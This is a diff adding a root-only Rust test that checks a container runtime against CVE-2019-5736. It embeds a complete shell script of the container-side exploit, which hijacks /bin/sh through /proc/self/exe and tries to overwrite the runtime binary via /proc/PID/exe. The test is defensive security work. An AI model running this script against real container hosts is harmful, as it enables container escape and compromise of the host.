@@ -242,3 +242,149 @@ impl Drop for KillOnDrop<'_> {
         common::kill_tracked(self.0);
     }
 }
+
+/// The hostile image's side of CVE-2019-5736, run as the container's init
+/// (pid 1 of its pid namespace). /bin/sh becomes a script whose interpreter
+/// is `/proc/self/exe`: when a runtime execs /bin/sh into the container,
+/// the kernel resolves that link in the exec'ing process, so if the runtime
+/// execs from its own binary, that binary runs inside the container. The
+/// init then stops every other process of the namespace (`kill -STOP -1`, a
+/// builtin, so no exec'd process outruns it), looks at each one's
+/// /proc/PID/exe, opens any that is not busybox, kills the process (a running
+/// binary cannot be opened for writing: ETXTBSY) and keeps reopening its fd
+/// through /proc/self/fd for writing until that works or 3 s pass. Every
+/// step is logged to /attack.log; the host writes /stop to end it.
+const EXE_ATTACK: &str = r#"
+rm -f /bin/sh && printf '#!/proc/self/exe\n' > /bin/sh && chmod 755 /bin/sh || exit 1
+log() { echo "$*" >> /attack.log; }
+attack() {
+    d=$1
+    exec 3<"$d/exe" || { log "$d open: failed"; exit 0; }
+    log "$d opened"
+    kill -KILL "${d#/proc/}"
+    i=0
+    while [ $i -lt 30 ]; do
+        if (exec 4<>/proc/self/fd/3 && printf PWNED >&4) 2>>/attack.log; then
+            log "$d WROTE the binary"
+            exit 0
+        fi
+        i=$((i + 1))
+        sleep 0.1
+    done
+    log "$d write: gave up"
+}
+: > /ready
+while [ ! -e /stop ]; do
+    kill -STOP -1 2>/dev/null || continue
+    for d in /proc/[0-9]*; do
+        [ "$d" = /proc/1 ] && continue
+        exe=$(ls -l "$d/exe" 2>&1)
+        case "$exe" in
+        *'-> /bin/busybox') continue ;;
+        esac
+        log "$d seen: $exe"
+        case "$exe" in
+        *'cannot read link'*) ;;
+        *) (attack "$d") ;;
+        esac
+    done
+    kill -CONT -1 2>/dev/null
+done
+: > /done
+"#;
+
+/// CVE-2019-5736: a container overwrote runc's binary through the
+/// /proc/PID/exe of a runc process it could see. Here the container runs
+/// the attack above while the host execs /bin/sh into it five times; the
+/// runtime under test is a private copy of the binary, so a successful
+/// attack damages only that copy, which must come out byte-identical.
+///
+/// What defends (and what this test proves; each line was checked by
+/// removing the defence): the process `exec` clones is corral until its
+/// execve, and is non-dumpable from before it joins the container, so
+/// its /proc/PID/exe cannot be opened by the container ("cannot read
+/// link": EACCES from the ptrace access check); and its exe link no longer
+/// names the runtime binary when it execs, so a `#!/proc/self/exe` script
+/// cannot start the runtime inside the container (which, being a fresh
+/// dumpable process, the container could open and, once it exits, write).
+#[test]
+#[ignore = "needs root"]
+fn the_container_cannot_overwrite_the_runtime_binary() {
+    let bin_dir = tempfile::Builder::new()
+        .prefix("corral-test-bin-")
+        .tempdir()
+        .unwrap();
+    let copy = bin_dir.path().join("corral");
+    fs::copy(common::runtime_bin(), &copy).unwrap();
+    let original = fs::read(&copy).unwrap();
+    let bundle = Bundle::with_runtime("exeattack", copy.clone());
+    bundle.edit_config(|c| c["root"]["readonly"] = false.into());
+    let rootfs = bundle.rootfs();
+    add_shared_libraries(&rootfs, &copy);
+    fs::write(rootfs.join("attack.sh"), EXE_ATTACK).unwrap();
+    bundle.set_args(&["/bin/busybox", "sh", "/attack.sh"]);
+    bundle.create();
+    bundle.runtime(&["start", bundle.id()]).assert_success();
+    wait_for_path(&rootfs.join("ready"), common::SETTLE);
+    let mut execs = Vec::new();
+    for _ in 0..5 {
+        execs.push(bundle.runtime(&["exec", bundle.id(), "/bin/sh", "-c", "true"]));
+    }
+    fs::write(rootfs.join("stop"), b"").unwrap();
+    // Each process the attack opens takes it up to 3 s.
+    wait_for_path(&rootfs.join("done"), std::time::Duration::from_secs(60));
+    let log = fs::read_to_string(rootfs.join("attack.log")).unwrap_or_default();
+    let execs: Vec<String> = execs.iter().map(ToString::to_string).collect();
+    let report = format!("attack log:\n{log}\nexecs:\n{}", execs.join("\n"));
+    let after = fs::read(&copy).unwrap();
+    if after != original {
+        // Bundle's cleanup runs this copy: make it whole again first.
+        fs::write(&copy, &original).unwrap();
+    }
+    assert!(
+        after == original,
+        "the runtime binary was changed\n{report}"
+    );
+    assert!(!log.contains("WROTE"), "{report}");
+    // The attack met a runtime process: the exec child (its exe hidden:
+    // non-dumpable) or corral's binary run by the script (opened, then
+    // every reopen for writing refused: the read-only mount).
+    assert!(log.contains(" seen: "), "the attack never ran\n{report}");
+    if log.contains(" opened") {
+        assert!(log.contains("Read-only file system"), "{report}");
+        assert!(log.contains("gave up"), "{report}");
+    }
+    eprintln!("{report}"); // with --nocapture: what the attack met
+    bundle.assert_no_leaks();
+}
+
+/// Waits (at most `limit`) for `path` to exist; panics after.
+#[track_caller]
+fn wait_for_path(path: &std::path::Path, limit: std::time::Duration) {
+    let deadline = std::time::Instant::now() + limit;
+    while !path.exists() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "{} did not appear",
+            path.display()
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+}
+
+/// Copies the dynamic loader and libraries `bin` needs into `rootfs`, at
+/// their host paths, as a glibc-based image has them. Without them the
+/// busybox rootfs would stop the attack for a reason a real image lacks:
+/// the kernel could not load a dynamically linked runtime binary in the
+/// container at all (ENOENT for the missing `PT_INTERP`).
+fn add_shared_libraries(rootfs: &std::path::Path, bin: &std::path::Path) {
+    let out = output_tracked(Command::new("ldd").arg(bin));
+    assert!(out.status.success(), "ldd {}", bin.display());
+    let text = String::from_utf8_lossy(&out.stdout);
+    for lib in text.split_whitespace().filter(|word| word.starts_with('/')) {
+        let target = rootfs.join(lib.trim_start_matches('/'));
+        let dir = target.parent().expect("a library path has a parent");
+        fs::create_dir_all(dir).expect("create the library directory in the rootfs");
+        fs::copy(lib, &target).expect("copy a library into the rootfs");
+    }
+}
